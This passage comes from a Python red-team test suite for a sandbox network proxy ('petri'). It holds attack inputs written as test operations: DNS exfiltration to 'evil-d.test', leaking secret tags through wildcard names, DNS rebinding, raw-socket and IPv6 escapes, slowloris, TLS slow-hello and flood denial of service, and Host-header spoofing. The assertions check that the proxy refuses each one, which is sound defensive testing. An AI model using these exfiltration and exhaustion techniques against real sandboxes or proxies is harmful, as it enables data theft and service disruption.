        ops.append(dict(op="dns", labels=[data, "evil-d.test"], qtype=qt))
        ops.append(dict(op="dns", labels=[data, "evil-d.test"], qtype=qt, tcp=True))
    ops.append(dict(op="dns", labels=["\x01\x02bin", "a", "test"], qtype=1))
    ops.append(dict(op="dns", labels=[data, "a", "test"], qtype=1))
    ops.append(dict(op="dns", labels=["a", "test"], qtype=16))
    r = t.run(ops)
    for i, x in enumerate(r.res[:-1]):
        c.check(x.get("rcode") in (3, 5) and not x.get("ancount"), "query %d: %s" % (i, x))
    c.check(r.res[-1].get("rcode") == 0 and not r.res[-1].get("ancount"),
            "TXT for the allowed name: %s" % r.res[-1])
    refused = [d for d in r.dns_events() if data in d.get("qname", "")]
    c.check(len(refused) >= 11, "DNS events with the data label: %d" % len(refused))


def case_dns_tcp_abuse(t, c):
    """A DNS/TCP length prefix of 65535 and then nothing: closed within
    the head timeout (10 s), not held."""
    r = t.run([dict(op="dns_tcp_prefix", len=65535, send=100, read_timeout=25)], timeout=60)
    x = r.res[0]
    c.check(x.get("end") == "eof" and x.get("ms", 1e9) < 15000, "DNS/TCP held: %s" % x)


# ---- address classes (need the host to resolve: a fake resolver) -------------------


def in_private_resolver(t, c):
    if not shutil.which("unshare"):
        raise Skip("unshare not installed")
    fr = FakeResolver()
    conf = os.path.join(t.tmp, "resolv-%d.conf" % fr.port)
    with open(conf, "w") as f:
        f.write("nameserver 127.0.0.1:%d\n" % fr.port)

    def wrap(argv):
        # A private mount namespace in which /etc/resolv.conf names the
        # fake resolver: the host's own resolver is never asked.
        script = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
        return ["unshare", "-m", "--propagation", "private", "sh", "-c", script, conf] + argv
    return fr, wrap


def case_wildcard_exfil(t, c):
    """A wildcard entry ('*.w.test', not pinned): DNS inside the sandbox
    stays inside, but a connection to <data>.w.test makes the HOST resolve
    that name: data leaves with the host's query.  That cannot be zero for
    an unpinned wildcard (the host must look the name up to dial it; the
    README says so and that =ADDR avoids it), so what is checked is the
    bound: labels before the wildcard's name over 32 characters are never
    looked up (refused, audited 'wildcard name too long'), at most 64
    distinct names are looked up per sandbox (then 'wildcard name limit'),
    and a pinned wildcard ('*.p.test=ADDR') is never looked up at all."""
    fr, wrap = in_private_resolver(t, c)
    tag = "s3cr3t-%d" % os.getpid()
    long_ = (tag + "-" + "x" * 40)[:40]  # 40 characters: over the bound
    ops = [dict(op="resolve", name="%s.w.test" % long_),
           tcp("127.0.0.1", 3128, "CONNECT %s.w.test:443 HTTP/1.1\r\n\r\n" % long_,
               read_timeout=3),
           tcp("127.0.0.1", 3128, "CONNECT %s.p.test:443 HTTP/1.1\r\n\r\n" % tag,
               read_timeout=3)]
    # 70 distinct short names: the first 64 may be looked up, no more.
    ops += [tcp("127.0.0.1", 3128, "CONNECT n%d-%s.w.test:443 HTTP/1.1\r\n\r\n" % (i, tag),
                read_timeout=3) for i in range(70)]
    r = t.run(ops, allow=t.allow + ["*.w.test", "*.p.test=127.0.0.1"], wrap=wrap, timeout=120)
    c.check(not fr.asked(long_[:20]), "the host's resolver was asked for a %d-character label: %s"
            % (len(long_), fr.asked(long_[:20])[:2]))
    c.check(not fr.asked(".p.test"), "a pinned wildcard was looked up: %s" %
            fr.asked(".p.test")[:2])
    c.check(r.res[0].get("error"), "the long name got an address in the sandbox: %s" % r.res[0])
    c.check(status(r.res[1]) == 403, "CONNECT to the long name: %r" % r.res[1].get("resp", "")[:60])
    audited_denied(c, r, long_, "wildcard name too long")
    names = {q[0] for q in fr.asked(tag) if q[0].startswith("n")}
    c.note("distinct names the host looked up: %d of 70" % len(names))
    c.check(len(names) <= 64, "%d distinct sandbox-chosen names looked up" % len(names))
    c.check(len(names) >= 60, "only %d of the first 64 names were looked up (the bound "
            "should let them through)" % len(names))
    refused = [x for x in r.res[3 + 64:] if status(x) == 403]
    c.check(len(refused) == 6, "names past the 64th: %s" % [x.get("resp", "")[:40]
                                                            for x in r.res[3 + 64:]])
    audited_denied(c, r, "n69-" + tag, "wildcard name limit")


def case_rebinding(t, c):
    """An allowed, unpinned name the host's resolver answers with
    127.0.0.1 (and the recorder's port): refused before dialling
    ('address is loopback'), never reaching the recorder."""
    fr, wrap = in_private_resolver(t, c)
    fr.answers["rebind.test"] = "127.0.0.1"
    mk = t.up.mark()
    r = t.run([tcp("127.0.0.1", 3128, get("http://rebind.test:%d/rb" % t.P, "rebind.test:%d" % t.P,
                                         "Connection: close\r\n")),
               tcp("rebind.test", t.P, get("/rb2", "rebind.test:%d" % t.P,
                                           "Connection: close\r\n"))],
              allow=t.allow + ["rebind.test:%d" % t.P], wrap=wrap)
    c.check(t.up.conns_since(mk) == 0, "the recorder on 127.0.0.1 was dialled")
    c.check(status(r.res[0]) == 403, "explicit: %r" % r.res[0].get("resp", "")[:80])
    audited_denied(c, r, "rebind.test", "loopback")


# ---- direct escape -------------------------------------------------------------------


def case_direct(t, c):
    """Refused: TCP to 127.0.0.1:PORT (the sandbox's own loopback, not the
    host's), to a synthetic address on a port not allowed for its name,
    to an unassigned synthetic address; UDP to a synthetic address; raw
    and packet sockets; IPv6; binding the proxy's ports."""
    AF, ST = socket.AF_INET, socket.SOCK_STREAM
    ops = [tcp("127.0.0.1", t.P, get("/direct", "a.test"), read_timeout=2),
           dict(op="resolve", name="a.test"),
           tcp("a.test", t.Q, get("/wrongport", "a.test"), read_timeout=2),
           tcp("127.80.3.3", t.P, get("/unassigned", "a.test"), read_timeout=2),
           dict(op="socket", family=AF, type=socket.SOCK_DGRAM, to=["127.80.0.1", t.P]),
           dict(op="socket", family=AF, type=socket.SOCK_RAW, proto=socket.IPPROTO_TCP),
           dict(op="socket", family=17, type=socket.SOCK_RAW, proto=0x300),  # AF_PACKET
           dict(op="socket", family=socket.AF_INET6, type=ST, to=["::1", t.P]),
           dict(op="socket", family=socket.AF_INET6, type=ST, to=["::ffff:127.80.0.1", t.P]),
           dict(op="bind", host="127.0.0.1", port=3128),
           dict(op="bind", host="127.0.0.1", port=53, udp=True),
           dict(op="bind", host="127.80.0.1", port=t.P),
           dict(op="unix", dirs=["/run", "/var/run", "/tmp"])]
    r = t.run(ops)
    res = r.res
    c.check("resp" not in res[0] or not res[0]["resp"], "127.0.0.1:P answered: %s" % res[0])
    direct = [h for h in t.up.heads_since((0, 0, 0)) if h[0].split(" ")[1:2] in (
        ["/direct"], ["/wrongport"], ["/unassigned"])]
    c.check(not direct, "the recorder got a direct request: %s" % direct)
    c.note("UDP to a synthetic address: %s (the sandbox's own loopback; nothing listens)" %
           res[4])
    c.note("unix sockets visible: %s" % [s["path"] for s in res[12].get("sockets", [])])
    c.check(res[5].get("stage") == "socket", "raw socket: %s" % res[5])
    c.check(res[6].get("stage") == "socket", "packet socket: %s" % res[6])
    c.check(not res[7].get("connected"), "IPv6 ::1: %s" % res[7])
    for k in (9, 10, 11):
        c.check(not res[k].get("bound"), "bind %s: bound" % ops[k])
    conn = [s for s in res[12].get("sockets", []) if s.get("connected")]
    c.check(not conn, "unix sockets reachable: %s" % conn)
    audited_denied(c, r, "a.test", "port not allowed")
    audited_denied(c, r, "127.80.3.3", "unknown address")


# ---- resources ------------------------------------------------------------------------


def case_slowloris(t, c):
    """A transparent head at one byte per 2 s, and a TLS hello likewise:
    closed by the head deadline (10 s), the upstream never dialled."""
    mk = t.up.mark()
    r = t.run([tcp("a.test", t.P, *list("GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"), delay=2,
                   read_timeout=30)], timeout=90)
    x = r.res[0]
    c.check(x.get("ms", 1e9) < 16000, "slowloris held %s ms" % x.get("ms"))
    c.check(t.up.conns_since(mk) == 0, "the upstream was dialled")


def case_conn_limit(t, c):
    """--net-max-conns 20: 60 connections held (explicit, transparent and
    DNS/TCP mixed) give at most 20 the proxy serves; a refused one is
    closed, not hung."""
    r = t.run([dict(op="hold", host="127.0.0.1", port=53, n=15),
               dict(op="hold", host="127.0.0.1", port=3128, n=15),
               dict(op="hold", host="a.test", port=t.P, n=30),
               tcp("127.0.0.1", 3128, get("http://a.test:%d/lim" % t.P, "a.test:%d" % t.P),
                   read_timeout=4),
               dict(op="release")], extra=["--net-max-conns", "20"])
    x = r.res[3]
    # Closed at once: EOF, or a reset when the close races the request.
    c.check((x.get("end") == "eof" or str(x.get("end")).startswith("error") or
             "errno" in x) and not x.get("resp", "").startswith("HTTP/1.1 200"),
            "the 61st connection: %s" % x)
    lim = [e for e in r.conn_events() if e.get("reason") == "connection limit"]
    c.check(lim, "no 'connection limit' events")


def case_byte_limit(t, c):
    """--net-max-bytes 4K: a request body over the budget is cut; a new
    connection after is refused."""
    body = "x" * 6000
    r = t.run([tcp("a.test", t.P, "POST /big HTTP/1.1\r\nHost: a.test\r\nContent-Length: %d"
                   "\r\n\r\n" % len(body) + body, read_timeout=3),
               tcp("a.test", t.P, get("/after", "a.test", "Connection: close\r\n"),
                   read_timeout=3)], extra=["--net-max-bytes", "4K"])
    after = [h for h in t.up.heads if "/after" in h[0]]
    c.check(not after, "a request after the budget was spent reached the upstream")
    lim = [e for e in r.conn_events() if e.get("reason") == "byte limit"]
    c.check(lim, "no 'byte limit' events: %s" % json.dumps(r.conn_events())[:300])


def two_sandboxes(t, c, a_ops, b_reps=40):
    """Sandbox A runs @a_ops while sandbox B (same context: same proxy
    thread) fetches through the proxy b_reps times: B's latencies."""
    if not t.lib:
        raise Skip("no libpetri.so (--lib)")
    cfg = {"fix": t.fix, "allow": t.allow, "a_ops": a_ops, "port": t.P, "reps": b_reps}
    env = dict(os.environ, PETRI_LIBRARY=t.lib,
               PYTHONPATH=os.path.join(HERE, "..", "..", "bindings", "python"))
    cfg_path = os.path.join(t.tmp, "two-%d.json" % t.nrun)
    t.nrun += 1
    with open(cfg_path, "w") as f:
        json.dump(cfg, f)
    p = subprocess.run(["/usr/bin/python3", os.path.abspath(__file__), "--two", cfg_path],
                       capture_output=True, text=True, timeout=240, env=env)
    try:
        return json.loads(p.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        raise AssertionError("two sandboxes: %r %r" % (p.stdout[-400:], p.stderr[-800:]))


def two_main(cfg):
    """(--two) Runs in a host process with the binding: A attacks, B
    measures.  Prints one JSON object."""
    import petri  # noqa: PLC0415
    kw = dict(net="proxy", allow=cfg["allow"], binds=["%s:/rt" % cfg["fix"]], pids=64)
    P = cfg["port"]
    lat_ops = [tcp("127.0.0.1", 3128, get("http://a.test:%d/lat" % P, "a.test:%d" % P,
                                         "Connection: close\r\n"), read_timeout=10)
               ] * cfg["reps"]

    def agent_run(sb, ops, timeout=120, on_output=None):
        r = sb.run(["/usr/bin/python3", "/rt/rt.py", "--agent", ops_arg(cfg["fix"], ops)],
                   timeout=timeout, nofile=4096, on_output=on_output)
        try:
            return json.loads(r.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            raise RuntimeError("agent: exit %s %r %r" % (r.exit_code, r.stdout[-300:],
                                                          r.stderr[-300:]))

    out = {}
    with petri.Sandbox(**kw) as a, petri.Sandbox(**kw) as b:
        base = agent_run(b, lat_ops)
        out["base_ms"] = sorted(x.get("ms", -1) for x in base)
        started = threading.Event()
        a_res = {}

        def on_out(stream, data):
            if b"go" in bytes(data):
                started.set()

        th = threading.Thread(target=lambda: a_res.update(
            r=agent_run(a, [dict(op="say", text="go")] + cfg["a_ops"], on_output=on_out)))
        th.start()
        started.wait(30)
        time.sleep(0.5)
        during = agent_run(b, lat_ops)
        out["during_ms"] = sorted(x.get("ms", -1) for x in during)
        out["during_ok"] = sum(1 for x in during if status(x) == 200)
        th.join()
        out["a"] = a_res.get("r")
    print(json.dumps(out))


def pct(xs, p):
    return xs[min(len(xs) - 1, int(len(xs) * p))] if xs else -1


def case_dns_flood_other_sandbox(t, c):
    """Sandbox A floods its DNS server over UDP for 6 s; sandbox B's
    requests through the proxy (same thread) stay fast: p90 under 200 ms."""
    o = two_sandboxes(t, c, [dict(op="dns_flood", seconds=6)])
    c.note("A sent %s queries; B base p50/p90/max %s/%s/%s ms, during %s/%s/%s ms" % (
        (o.get("a") or [{}, {}])[1].get("sent"), pct(o["base_ms"], .5), pct(o["base_ms"], .9),
        o["base_ms"][-1], pct(o["during_ms"], .5), pct(o["during_ms"], .9), o["during_ms"][-1]))
    c.check(o.get("during_ok") == len(o["during_ms"]), "B's requests failed during the flood")
    c.check(pct(o["during_ms"], .9) < 200, "B's p90 latency during A's flood: %s ms" %
            pct(o["during_ms"], .9))


def case_tls_slow_hello_other_sandbox(t, c):
    """Sandbox A holds 100 transparent connections, each with 60,000 bytes
    of a ClientHello that never completes (16-byte records), and adds one
    byte to each in turn for 8 s: the SNI reader starts over on the whole
    buffer at every read (quadratic).  Sandbox B's requests through the
    same proxy thread must stay fast: p90 under 200 ms."""
    ops = [dict(op="trickle_tls", host="t.test", port=t.Q, n=100, prefix=60000, seconds=8)]
    o = two_sandboxes(t, c, ops, b_reps=40)
    c.note("A: %s; B base p50/p90/max %s/%s/%s ms, during %s/%s/%s ms" % (
        (o.get("a") or [{}, {}])[1], pct(o["base_ms"], .5), pct(o["base_ms"], .9),
        o["base_ms"][-1], pct(o["during_ms"], .5), pct(o["during_ms"], .9), o["during_ms"][-1]))
    c.check(o.get("during_ok") == len(o["during_ms"]), "B's requests failed during A's hellos")
    c.check(pct(o["during_ms"], .9) < 200, "B's p90 latency during A's hellos: %s ms" %
            pct(o["during_ms"], .9))


def case_tls_slow_hello_under_cap(t, c):
    """As above with a hello the proxy must wait for: 15,000 bytes of
    padding (a 15.3 KB hello, under the 16 KiB cap) in 16-byte records,
    100 connections holding 15,000 bytes of it, then a byte each in turn
    for 8 s.  Each byte must cost the proxy the new bytes' headers, not a
    new parse of the whole hello: B's p90 under 50 ms (OpenSSL on the
    whole buffer at each byte made it 100 ms with 10,000 bytes held)."""
    ops = [dict(op="trickle_tls", host="t.test", port=t.Q, n=100, prefix=15000, pad=15000,
                seconds=8)]
    o = two_sandboxes(t, c, ops, b_reps=40)
    c.note("A: %s; B base p50/p90/max %s/%s/%s ms, during %s/%s/%s ms" % (
        (o.get("a") or [{}, {}])[1], pct(o["base_ms"], .5), pct(o["base_ms"], .9),
        o["base_ms"][-1], pct(o["during_ms"], .5), pct(o["during_ms"], .9), o["during_ms"][-1]))
    c.check(((o.get("a") or [{}, {}])[1] or {}).get("bytes", 0) > 10000,
            "A's connections did not stay open to trickle: %s" % (o.get("a") or [{}, {}])[1])
    c.check(o.get("during_ok") == len(o["during_ms"]), "B's requests failed during A's hellos")
    c.check(pct(o["during_ms"], .9) < 50, "B's p90 latency during A's hellos: %s ms" %
            pct(o["during_ms"], .9))


def case_audit_flood(t, c):
    """A sandbox that churns refused connections and DNS queries: each one
    is an audit event, with no bound or rate limit.  Refused if the stream
    holds at most 1,000 proxy events after 2 s of churn (a summary, a rate
    limit or a per-sandbox cap would do), and the rest are counted in
    Loss {where: rate_limit} records (nothing dropped silently)."""
    r = t.run([dict(op="churn", host="127.0.0.1", port=t.P, seconds=1),
               dict(op="dns_flood", seconds=1)])
    n = len(r.events())
    size = os.path.getsize(r.audit)
    c.note("%d proxy events, audit file %d bytes, %s churned connections, %s queries" % (
        n, size, r.res[0].get("n"), r.res[1].get("sent")))
    c.check(n <= 1000, "%d audit events (%d bytes) from 2 s of churn" % (n, size))
    # What was not written is counted: Loss {where: rate_limit} per kind.
    p = subprocess.run([t.petri, "audit", "json", r.audit], capture_output=True, text=True,
                       timeout=60)
    lost = {}
    for line in p.stdout.splitlines():
        pp = petri_part(json.loads(line))
        loss = pp.get("loss") if pp.get("kind") == "loss" else None
        if loss and loss.get("where") == "rate_limit":
            lost[loss["kind"]] = lost.get(loss["kind"], 0) + int(loss["count"])
    c.note("counted, not written: %s" % lost)
    c.check(lost.get("net_connection", 0) > 0 and lost.get("dns_query", 0) > 0,
            "no rate_limit Loss for both kinds: %s" % lost)
    conns = len(r.conn_events()) + lost.get("net_connection", 0)
    c.check(conns >= r.res[0].get("n", 0) // 2,
            "%d connection events written or counted for %s churned" % (conns, r.res[0].get("n")))


# ---- audit honesty ---------------------------------------------------------------------


def case_audit_connect_host_header(t, c):
    """CONNECT a.test with a Host header naming another host, then opaque
    bytes: the event's SNI/Host field must not show the attacker's text as
    if it were what the connection carried."""
    m = "bank-audit.example"
    r = t.run([tcp("127.0.0.1", 3128, "CONNECT a.test:%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (t.P, m),
                   "\x00\x01opaque", delay=0.3, read_timeout=2)])
    lie = [e for e in r.conn_events() if m in json.dumps(e)]
    c.check(not lie, "an event carries the client's Host %r: %s" % (m, json.dumps(lie)[:300]))


CASES = [
    ("front_transparent_absolute_form", case_transparent_absolute_form),
    ("front_transparent_connect_method", case_transparent_connect_method),
    ("front_transparent_leading_crlf", case_transparent_leading_crlf),
    ("front_transparent_unlisted_method", case_transparent_unlisted_method),
    ("front_transparent_upgrade_declined", case_transparent_upgrade_declined),
    ("front_proxy_connect_plain_http", case_proxy_connect_plain_http),
    ("front_proxy_absolute_upgrade", case_proxy_absolute_upgrade),
    ("front_tls_no_sni", case_tls_no_sni),
    ("refused_transparent_pipelined", case_transparent_pipelined),
    ("refused_smuggling_framing", case_smuggling_framing),
    ("refused_http10_no_host", case_http10_no_host),
    ("refused_proxy_names", case_proxy_names),
    ("refused_proxy_host_disagrees", case_proxy_host_disagrees),
    ("allowed_normalised_names", case_normalised_names_allowed),
    ("refused_tls_sni", case_tls_sni),
    ("refused_tls_port_plaintext", case_tls_port_plaintext),
    ("refused_dns_exfil", case_dns_exfil),
    ("refused_dns_tcp_abuse", case_dns_tcp_abuse),
    ("dns_wildcard_exfil", case_wildcard_exfil),
    ("refused_rebinding_loopback", case_rebinding),
    ("refused_direct", case_direct),
    ("refused_slowloris", case_slowloris),
    ("refused_conn_limit", case_conn_limit),
    ("refused_byte_limit", case_byte_limit),
    ("dos_dns_flood_other_sandbox", case_dns_flood_other_sandbox),
    ("dos_tls_slow_hello_other_sandbox", case_tls_slow_hello_other_sandbox),
    ("dos_tls_slow_hello_under_cap", case_tls_slow_hello_under_cap),
    ("dos_audit_flood", case_audit_flood),
    ("audit_connect_host_header", case_audit_connect_host_header),
]


def main():
    if len(sys.argv) > 2 and sys.argv[1] == "--agent":
        spec = sys.argv[2]
        if spec.startswith("@"):  # long lists: a file in the bound directory
            with open(spec[1:]) as f:
                spec = f.read()
        agent(json.loads(spec))
        return 0
    if len(sys.argv) > 2 and sys.argv[1] == "--two":
        with open(sys.argv[2]) as f:
            two_main(json.load(f))
        return 0
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--petri", required=False)
    ap.add_argument("--lib", default=os.environ.get("PETRI_LIBRARY"))
    ap.add_argument("--no-lib", metavar="WHY",
                    help="no loadable libpetri.so: the two-sandbox cases are skipped")
    ap.add_argument("--only")
    ap.add_argument("--list", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    if args.list:
        for n, _ in CASES:
            print(n)
        return 0
    if not args.petri:
        ap.error("--petri is required")
    if os.geteuid() != 0:
        print("SKIP: needs root (namespaces, cgroups)")
        return 77
    passed = failed = skipped = 0
    with tempfile.TemporaryDirectory(prefix="petri-redteam-") as tmp:
        lib = None if args.no_lib else args.lib and os.path.abspath(args.lib)
        t = T(os.path.abspath(args.petri), lib, tmp, args.verbose)
        for name, fn in CASES:
            if args.only and not re.search(args.only, name):
                continue
            c = Case(name)
            t0 = time.monotonic()
            try:
                fn(t, c)
            except Skip as e:
                print("SKIP %s: %s" % (name, e))
                skipped += 1
                continue
            except Exception as e:  # noqa: BLE001
                c.failures.append("%s: %s" % (type(e).__name__, e))
            ms = int((time.monotonic() - t0) * 1000)
            if c.failures:
                failed += 1
                print("FAIL %s (%d ms): %s" % (name, ms, "; ".join(c.failures)))
            else:
                passed += 1
                print("PASS %s (%d ms)" % (name, ms))
            for n in c.notes:
                print("     note: %s" % n)
            sys.stdout.flush()
    print("%d passed, %d failed, %d skipped" % (passed, failed, skipped))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
